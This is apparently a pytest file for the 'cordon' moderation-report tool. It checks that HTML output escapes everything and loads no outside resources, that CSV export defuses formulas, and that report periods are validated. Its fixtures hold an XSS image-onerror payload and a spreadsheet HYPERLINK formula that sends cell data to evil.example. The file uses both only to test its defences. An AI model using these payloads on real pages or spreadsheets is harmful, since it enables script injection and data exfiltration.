"""The report as files: HTML that loads nothing and escapes everything, CSV a spreadsheet
cannot be tricked by, and the `cordon report` command with its period."""

from __future__ import annotations

import csv
import os
import re
import subprocess
import sys
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from cordon.domain import EventName, ModerationEvent, SubjectRef
from cordon.reports import build_report
from cordon.reports.html import render_html, write_report
from cordon.store.sql import SqlStore

T0 = datetime(2016, 3, 1, tzinfo=UTC)
HOSTILE = '<img src=x onerror="alert(1)">'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def hostile_log() -> list[ModerationEvent]:
    who = SubjectRef.account("twitter", "1")
    other = SubjectRef.account("twitter", "2")
    return [
        ModerationEvent(EventName.CASE_OPENED, "t", T0, who, case_id="c1",
                        payload={"queue": HOSTILE, "source": "detection"}),
        ModerationEvent(EventName.CASE_OPENED, "t", T0, other, case_id="c2",
                        payload={"queue": "reports", "source": "reports"}),
        ModerationEvent(EventName.WATCH_PLACED, "t", T0, who, case_id="c1",
                        payload={"hold_id": "h", "requesting_body": FORMULA,
                                 "expires": (T0 + timedelta(days=9)).isoformat()}),
        ModerationEvent(EventName.ACTION_EXECUTED, "t", T0 + timedelta(hours=3), other, case_id="c2",
                        payload={"action": "suspend", "policy_clause": HOSTILE}),
    ]


def test_html_escapes_every_string_and_loads_nothing(store):
    store.append_events(hostile_log())
    page = render_html(build_report(store, now=T0 + timedelta(days=1)), title=HOSTILE)
    assert HOSTILE not in page and "&lt;img src=x onerror=" in page
    # Every source and link in the page is inline data.
    refs = re.findall(r'(?:src|href)\s*=\s*"([^"]*)"', page)
    assert refs and all(r.startswith("data:") for r in refs)
    assert "default-src 'none'" in page
    # The charts: risk, actions by type, by violation, proactive share, time to action, cases.
    assert page.count('<img src="data:image/png;base64,') == 6
    assert "74–95%" in page and "Twitter" in page
    assert "script" not in page.lower()


def test_csv_has_every_section_and_defuses_formulas(store, tmp_path: Path):
    store.append_events(hostile_log())
    html, table = tmp_path / "r.html", tmp_path / "r.csv"
    write_report(build_report(store, now=T0 + timedelta(days=1)), html, table)
    rows = list(csv.reader(table.open(newline="", encoding="utf-8")))
    assert rows[0] == ["section", "metric", "value"]
    sections = {r[0] for r in rows[1:]}
    assert {"actions", "actions_by_violation", "detection", "time_to_action", "watch", "appeals",
            "escalation", "evidence", "hubs", "period"} <= sections
    bodies = [r[1] for r in rows if r[0] == "watch_by_requesting_body"]
    assert bodies == ["'" + FORMULA]
    assert ["detection", "proactive_share", "0.5000"] in rows
    assert not list(tmp_path.glob("*.tmp"))


def cordon(*args: str, tmp_path: Path) -> subprocess.CompletedProcess:
    env = {**os.environ, "CORDON_DATA_DIR": str(tmp_path / "data"), "COLUMNS": "200"}
    env.pop("CORDON_DATABASE_URL", None)
    return subprocess.run([sys.executable, "-m", "cordon", *args], capture_output=True, env=env, timeout=120)


@pytest.fixture
def stored(tmp_path: Path) -> str:
    url = f"sqlite:///{tmp_path / 'store.sqlite'}"
    with SqlStore(url) as store:
        store.append_events(hostile_log())
    return url


def test_report_command_with_a_period(stored: str, tmp_path: Path):
    html, table = tmp_path / "march.html", tmp_path / "march.csv"
    done = cordon("report", "--store", stored, "-o", str(html), "--csv", str(table),
                  "--since", "2016-03-01", "--until", "2016-03-01T02:00", tmp_path=tmp_path)
    assert done.returncode == 0, done.stderr.decode()
    assert "2016-03-01 to 2016-03-01 02:00 UTC" in done.stdout.decode()
    rows = list(csv.reader(table.open(newline="", encoding="utf-8")))
    # The suspension at 03:00 is after the period; the cases at 00:00 are in it.
    assert ["actions", "suspend", "0"] in rows and ["detection", "report_cases", "1"] in rows
    assert ["period", "since", "2016-03-01T00:00:00+00:00"] in rows
    assert "Period: 2016-03-01 to 2016-03-01 02:00 UTC." in html.read_text()


@pytest.mark.parametrize(("args", "message"), [
    (["--since", "March"], "--since: 'March' is not a date or time"),
    (["--since", "2016-04-01", "--until", "2016-03-01"], "is not before --until"),
])
def test_a_bad_period_is_one_clear_line_and_exit_2(stored: str, tmp_path: Path, args: list[str], message: str):
    done = cordon("report", "--store", stored, "-o", str(tmp_path / "r.html"), *args, tmp_path=tmp_path)
    stderr = done.stderr.decode()
    assert done.returncode == 2 and message in stderr and len(stderr.strip().splitlines()) == 1
    assert not (tmp_path / "r.html").exists()
